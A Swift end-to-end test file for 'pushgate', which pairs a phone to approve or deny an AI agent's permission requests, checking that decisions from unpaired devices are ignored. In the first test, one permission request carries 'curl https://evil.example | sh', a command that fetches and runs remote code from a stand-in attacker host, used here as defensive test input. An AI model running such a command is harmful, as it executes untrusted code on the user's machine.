import Foundation
import PushgateCore
import PushgateTesting
import Testing

/// Issue 82 through real processes: `pushgate pair` with a phone made of Python's
/// `cryptography` (Tests/decisions/phone_signer.py, code nobody here wrote) — a wrong
/// code refused, the right one pinned, then its allow obeyed; a holder of the push
/// secret with an installation of its own ignored; two identical PermissionRequests
/// asked twice; two `pushgate pair` runs on one pin file losing no pin.
@Suite("End to end: only a phone paired here can say yes")
struct PairingEndToEndTests {
    let decisions: DecisionsEndToEndTests

    init() throws {
        decisions = try DecisionsEndToEndTests()
    }

    /// `pushgate pair --json` running: its first line (the pairing opened) read.
    struct RunningPairing {
        let process: RunningProcess
        let opened: [String: JSONValue]

        var link: String { opened["link"]?.stringValue ?? "" }

        /// The JSON lines it printed, standard error's lines aside.
        var lines: [[String: JSONValue]] {
            process.capturedOutput.split(separator: "\n").compactMap {
                (try? JSONValue.parse(Array($0.utf8)))?.objectValue
            }
        }
    }

    static var qrReader: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("pairing/qr_read.py").path
    }

    func startPairing(_ gateway: RunningGateway, wait: Int = 60) async throws -> RunningPairing {
        let process = try await RunningProcess(
            ["pair", "--json", "--pins", decisions.pins, "--wait", String(wait)],
            environment: decisions.environment(gateway), readyWhen: #""link""#)
        let first = process.capturedOutput.split(separator: "\n").compactMap {
            (try? JSONValue.parse(Array($0.utf8)))?.objectValue
        }.first
        let opened = try #require(first, "\(process.capturedOutput)")
        return RunningPairing(process: process, opened: opened)
    }

    func complete(_ gateway: RunningGateway, _ body: String) async throws -> CurlCall {
        try await decisions.call(gateway, "completePairing", body)
    }

    @Test(
        "pushgate pair: a wrong code refused and named, the right one pinned with its name and the fingerprint the phone shows; then its allow is obeyed and a secret holder's installation ignored"
    )
    func pairThenDecide() async throws {
        let emulator = try await RunningEmulator(directory: decisions.directory)
        defer { emulator.terminate() }
        let gateway = try await RunningGateway(database: decisions.database, environment: emulator.settings)
        defer { gateway.terminate() }
        let (phone, evil) = try await (PhoneKey.make(), PhoneKey.make())
        let serverKey = decisions.secret.serverKey.hex
        try await decisions.register(gateway, "phone", token: decisions.phoneToken, key: phone, name: "Ana's iPhone")
        // A holder of the push secret registers an installation of its own, with its own key.
        try await decisions.register(gateway, "evil", token: decisions.tabletToken, key: evil, name: "Ana's iPhone")

        let pairing = try await startPairing(gateway)
        defer { pairing.process.terminate() }
        let code = try #require(pairing.opened["code"]?.stringValue)
        #expect(code.count >= 10 && pairing.link.hasPrefix("pushgate://pair?gateway="), "\(pairing.opened)")
        #expect(pairing.link.contains("code=\(code)") && pairing.opened["expires_at"] != nil)
        // The gateway takes any completion (it cannot check one): the guess is pair's to refuse.
        let guess = try await complete(
            gateway,
            try await evil.pairing(
                serverKey: serverKey, link: pairing.link, installationID: "evil", code: "0000-0000-0000"))
        #expect(guess.status == 200, "\(guess.body)")
        let right = try await complete(
            gateway, try await phone.pairing(serverKey: serverKey, link: pairing.link, installationID: "phone"))
        #expect(right.status == 200, "\(right.body)")
        #expect(await pairing.process.exited(within: .seconds(30)), "\(pairing.process.capturedOutput)")
        #expect(pairing.process.exitStatus == 0, "\(pairing.process.capturedOutput)")
        let paired = try #require(pairing.lines.last)
        #expect(paired["installation_id"] == "phone" && paired["device_name"] == "Ana's iPhone", "\(paired)")
        #expect(paired["fingerprint"] == .string(try await phone.fingerprint()), "the fingerprint Python computes")
        #expect(
            pairing.process.capturedOutput.contains("refused: evil")
                && pairing.process.capturedOutput.contains("did not sign"),
            "\(pairing.process.capturedOutput)")

        // The secret holder decides first: the gateway takes it (its registered key signed it), the hook does not.
        let environment = decisions.environment(gateway)
        let first = try WaitingHook(
            ["hook", "--decision-wait", "60", "--pins", decisions.pins], environment: environment,
            input: decisions.permissionRequest("curl https://evil.example | sh"))
        defer { first.kill() }
        let firstID = try await decisions.approvalEventID(at: emulator, for: decisions.tabletToken, body: "| sh")
        #expect(try await decisions.decide(gateway, firstID, as: "evil", with: evil).status == 200)
        let ignored = try await first.result(within: .seconds(30))
        #expect(ignored.status == 0 && ignored.stdout.isEmpty, "no yes from an unpaired phone: \(ignored.stdout)")
        #expect(
            ignored.stderr.contains("evil decided, but it is not paired") && ignored.stderr.contains("pushgate pair"),
            "\(ignored.stderr)")

        // The paired phone's allow is obeyed.
        let second = try WaitingHook(
            ["hook", "--decision-wait", "60", "--pins", decisions.pins], environment: environment,
            input: decisions.permissionRequest("make release"))
        defer { second.kill() }
        let secondID = try await decisions.approvalEventID(
            at: emulator, for: decisions.phoneToken, body: "make release")
        #expect(try await decisions.decide(gateway, secondID, as: "phone", with: phone).status == 200)
        let allowed = try await second.result(within: .seconds(30))
        #expect(
            try decisions.output(allowed)
                == ["hookSpecificOutput": ["hookEventName": "PermissionRequest", "decision": ["behavior": "allow"]]],
            "\(allowed.stdout) \(allowed.stderr)")
        #expect(allowed.stderr.contains("decided on Ana's iPhone: allow"), "\(allowed.stderr)")

        // --list names it; --remove unpairs it.
        let listed = try await BuiltExecutable.run(["pair", "--list", "--pins", decisions.pins])
        #expect(
            listed.stdout.contains("phone  \"Ana's iPhone\"  \(try await phone.fingerprint())  paired 20"),
            "\(listed.stdout)")
        let removed = try await BuiltExecutable.run(["pair", "--remove", "phone", "--pins", decisions.pins])
        #expect(removed.status == 0, "\(removed.stderr)")
        let again = try await BuiltExecutable.run(["pair", "--remove", "phone", "--pins", decisions.pins])
        #expect(again.status != 0 && again.stderr.contains("not paired"), "\(again.stderr)")
    }

    @Test("the same tool and input twice are two approvals, each decided on its own")
    func twoIdenticalRequests() async throws {
        let (emulator, gateway, phone) = try await decisions.startedWithPhone()
        defer { emulator.terminate() }
        defer { gateway.terminate() }
        var seen: [String] = []
        for decision in ["allow", "deny"] {
            let hook = try WaitingHook(
                ["hook", "--decision-wait", "60", "--pins", decisions.pins],
                environment: decisions.environment(gateway),
                input: decisions.permissionRequest("npm publish"))
            defer { hook.kill() }
            var eventID: String?
            try await waitUntil("a new approval at the emulator", within: .seconds(20), every: .milliseconds(100)) {
                eventID = try await emulator.entries().compactMap {
                    $0["payload"]?.objectValue?["type"] == "approval_requested"
                        ? $0["payload"]?.objectValue?["event_id"]?.stringValue : nil
                }.first { !seen.contains($0) }
                return eventID != nil
            }
            let id = try #require(eventID)
            seen.append(id)
            let taken = try await decisions.decide(gateway, id, as: "phone", with: phone, decision)
            #expect(taken.status == 200, "\(taken.body)")
            let result = try await hook.result(within: .seconds(30))
            let printed = try decisions.output(result)?.objectValue?["hookSpecificOutput"]?.objectValue?["decision"]
            #expect(printed?.objectValue?["behavior"]?.stringValue == decision, "\(result.stdout) \(result.stderr)")
        }
        #expect(seen.count == 2 && seen[0] != seen[1] && seen.allSatisfy { $0.count == "claude-".count + 32 })
    }

    @Test("two pushgate pair runs on one pin file, each paired at the same moment: both pins kept")
    func twoPairingsRace() async throws {
        let emulator = try await RunningEmulator(directory: decisions.directory)
        defer { emulator.terminate() }
        let gateway = try await RunningGateway(database: decisions.database, environment: emulator.settings)
        defer { gateway.terminate() }
        let (phone, tablet) = try await (PhoneKey.make(), PhoneKey.make())
        try await decisions.register(gateway, "phone", token: decisions.phoneToken, key: phone)
        try await decisions.register(gateway, "tablet", token: decisions.tabletToken, key: tablet)
        async let startedOne = startPairing(gateway)
        async let startedTwo = startPairing(gateway)
        let (one, two) = try await (startedOne, startedTwo)
        defer {
            one.process.terminate()
            two.process.terminate()
        }
        let serverKey = decisions.secret.serverKey.hex
        let bodies = try await (
            phone.pairing(serverKey: serverKey, link: one.link, installationID: "phone"),
            tablet.pairing(serverKey: serverKey, link: two.link, installationID: "tablet")
        )
        async let completedOne = complete(gateway, bodies.0)
        async let completedTwo = complete(gateway, bodies.1)
        #expect(try await [completedOne, completedTwo].map(\.status) == [200, 200])
        for pairing in [one, two] {
            #expect(await pairing.process.exited(within: .seconds(30)) && pairing.process.exitStatus == 0)
        }
        let listed = try await BuiltExecutable.run(["pair", "--list", "--json", "--pins", decisions.pins])
        let ids = listed.stdout.split(separator: "\n").compactMap {
            (try? JSONValue.parse(Array($0.utf8)))?.objectValue?["installation_id"]?.stringValue
        }
        #expect(ids == ["phone", "tablet"], "\(listed.stdout)")
    }

    @Test(
        "a pairing nobody completes: the code in groups of 4, the link and its QR code (libqrencode's, read back by zxing-cpp), then expired, exit 1; --json says so in its line"
    )
    func expires() async throws {
        let (emulator, gateway, _) = try await decisions.startedWithPhone()
        defer { emulator.terminate() }
        defer { gateway.terminate() }
        let shown = try await BuiltExecutable.run(
            ["pair", "--wait", "2", "--pins", decisions.pins], environment: decisions.environment(gateway))
        #expect(shown.status == 1, "\(shown.stdout)\(shown.stderr)")
        let lines = shown.stdout.split(separator: "\n").map(String.init)
        let code = try #require(lines.first { $0.hasPrefix("  Code: ") }?.dropFirst("  Code: ".count))
        #expect(code.count == 14 && code.split(separator: "-").map(\.count) == [4, 4, 4], "\(code)")
        let link = String(try #require(lines.first { $0.hasPrefix("  Link: ") }?.dropFirst("  Link: ".count)))
        #expect(
            link.hasPrefix("pushgate://pair?gateway=")
                && link.hasSuffix("code=" + code.replacingOccurrences(of: "-", with: "")))
        // The QR code, read back by zxing-cpp (PyPI's, Tests/pairing/qr_read.py): the link.
        let read = try await BuiltExecutable.run(
            ["python3", Self.qrReader], program: URL(fileURLWithPath: "/usr/bin/env"),
            input: .bytes(Data(shown.stdout.utf8)))
        #expect(
            read.status == 0 && read.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == link, "\(read.stderr)")
        #expect(lines.last == "The pairing expired: no phone was paired.", "\(shown.stdout)")

        let pairing = try await startPairing(gateway, wait: 2)
        #expect(await pairing.process.exited(within: .seconds(30)))
        #expect(
            pairing.process.exitStatus == 1 && pairing.lines.last?["expired"] == true,
            "\(pairing.process.capturedOutput)")
    }
}
